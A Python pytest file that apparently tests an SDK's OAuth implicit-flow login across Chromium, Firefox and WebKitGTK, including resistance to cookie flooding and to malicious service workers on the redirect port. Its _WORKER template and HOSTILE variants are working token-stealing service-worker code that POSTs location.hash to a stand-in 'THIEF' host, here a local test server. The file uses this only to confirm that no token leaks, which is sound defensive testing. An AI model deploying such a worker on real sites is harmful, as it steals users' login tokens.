"""The same logins in Chromium, Firefox and WebKitGTK, also after other pages at their port."""

from collections.abc import AsyncGenerator
from glob import glob
from shutil import which

import pytest
import pytest_asyncio
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response

from gateway_sdk.auth import ImplicitFlow
from tests.browser import engines
from tests.browser.chromium import find_chromium
from tests.browser.engines import Engine
from tests.browser.logins import ICON, LOGGED_IN, Site, UnderWay, Witness, under_way
from tests.support.ports import free_port

MINI_BROWSER = next(iter(glob("/usr/lib/*/webkit2gtk-4*/MiniBrowser")), None)  # noqa: PTH207
HAS_WEBKIT = which("WebKitWebDriver") and which("Xvfb")
ENGINES = {
    "Chromium": (engines.chromium, find_chromium()),
    "Firefox": (engines.firefox, which("firefox-esr") or which("firefox")),
    "WebKitGTK": (engines.webkit, MINI_BROWSER if HAS_WEBKIT else None),
}
pytestmark = pytest.mark.asyncio(loop_scope="session")


@pytest_asyncio.fixture(
    scope="module",
    loop_scope="session",
    params=[
        pytest.param(name, marks=[pytest.mark.full] * (name != "Chromium")) for name in ENGINES
    ],
)
async def engine(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> AsyncGenerator[Engine]:
    start, executable = ENGINES[request.param]
    if executable is None:
        pytest.skip(f"not tested, because no {request.param} was found")
    async with start(executable, tmp_path_factory.mktemp("profile")) as engine:
        yield engine


async def log_in(engine: Engine, waiting: UnderWay, witness: Witness) -> None:
    """Log in by the start address; the response comes to our page, which hands it over once."""
    await engine.go(waiting.url)
    await engine.click("//*[@id='allow']")
    await engine.click(f"//h1[.='{LOGGED_IN}']")
    assert (await waiting.token).expires_at
    assert witness.starts.count(200) == 1
    assert [method for method, _ in witness.at("/callback")] == ["GET", "POST"]


@pytest.mark.parametrize("is_fixed", [False, True])
async def test_a_login(
    engine: Engine, flow: ImplicitFlow, witness: Witness, is_fixed: bool
) -> None:
    port = free_port() if is_fixed else 0
    async with under_way(flow, redirect_uri=f"http://127.0.0.1:{port}/callback") as waiting:
        await log_in(engine, waiting, witness)


async def test_the_cookies_of_other_programs_end_no_login(
    engine: Engine, flow: ImplicitFlow, witness: Witness
) -> None:
    """30 kB, which all ports of this machine get."""

    def reply(request: Request) -> Response:
        reply = HTMLResponse(ICON)
        for number in range(30):
            seconds = 600 if request.url.path == "/fill" else 0
            reply.set_cookie(f"cookie-{number}", "x" * 1000, max_age=seconds)
        return reply

    async with Site(reply).serve() as other:
        await engine.go(f"{other.url}/fill")
        async with under_way(flow) as waiting:
            await log_in(engine, waiting, witness)
        await engine.go(f"{other.url}/empty")
        assert len(other.requests[-1].headers["cookie"]) > 30_000


# Handles each page that is opened at its address; the last one is what other programs use.
_WORKER = """
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(Promise.all([
  clients.claim(), registration.navigationPreload?.enable()])));
addEventListener("fetch", (event) => {
  if (event.request.mode !== "navigate") return;
  const isAnswer = new URL(event.request.url).pathname === "/callback";
  const robbed = () => new Response(
    "<script>fetch('THIEF', {method: 'POST', mode: 'no-cors', body: location.hash})</script>",
    {headers: {"Content-Type": "text/html"}});
  WORK
});
"""
HOSTILE = {
    "takes the response": "if (isAnswer) event.respondWith(robbed());",
    "takes everything": "event.respondWith(robbed());",
    "takes the response, and fetches the rest":
        "event.respondWith(isAnswer ? robbed() : fetch(event.request));",
    "takes the response, and preloads the rest":
        "event.respondWith(isAnswer ? robbed() : event.preloadResponse);",
}  # fmt: skip
HARMLESS = "event.respondWith(event.preloadResponse.then((early) => early ?? fetch(event.request)))"


async def plant(engine: Engine, work: str, thief: str) -> str:
    """Leave a service worker in a browser; return the redirect URI at its port."""
    script = _WORKER.replace("WORK", work).replace("THIEF", thief)

    def reply(request: Request) -> Response:
        if request.url.path == "/worker.js":
            return Response(script, media_type="text/javascript")
        return HTMLResponse(ICON)

    async with Site(reply).serve() as site:
        await engine.go(site.url)
        registered = "navigator.serviceWorker.register('/worker.js')"
        await engine.run(f"{registered}.then(() => navigator.serviceWorker.ready).then(() => 0)")
    return f"{site.url}/callback"


@pytest.mark.parametrize("does", HOSTILE)
async def test_a_hostile_worker_gets_no_token(
    engine: Engine, flow: ImplicitFlow, witness: Witness, hostile: Site, does: str
) -> None:
    """Without a login it would. It is removed by the first page of ours that it lets through."""
    redirect_uri = await plant(engine, HOSTILE[does], hostile.url)
    await engine.go(f"{redirect_uri}#CANARY")
    assert await hostile.posted.get() == "#CANARY"
    async with under_way(flow, redirect_uri=redirect_uri) as waiting:
        if does == "takes everything":
            await engine.go(waiting.url)
            assert 200 not in witness.starts
        else:
            if does != "takes the response":
                await open_in_vain(engine, waiting, witness)
            await log_in(engine, waiting, witness)
    assert hostile.posted.empty()


async def test_a_harmless_worker_ends_no_login(
    engine: Engine, flow: ImplicitFlow, witness: Witness, hostile: Site
) -> None:
    """The browser asks for the start address in advance, which is no opening."""
    redirect_uri = await plant(engine, HARMLESS, hostile.url)
    async with under_way(flow, redirect_uri=redirect_uri) as waiting:
        await open_in_vain(engine, waiting, witness)
        await log_in(engine, waiting, witness)


async def open_in_vain(engine: Engine, waiting: UnderWay, witness: Witness) -> None:
    """A worker shows our refusal as the page, whose script removes the worker."""
    await engine.go(waiting.url)
    await engine.click("//h1[.='Open this address once more']")
    assert 200 not in witness.starts
    witness.requests.clear()
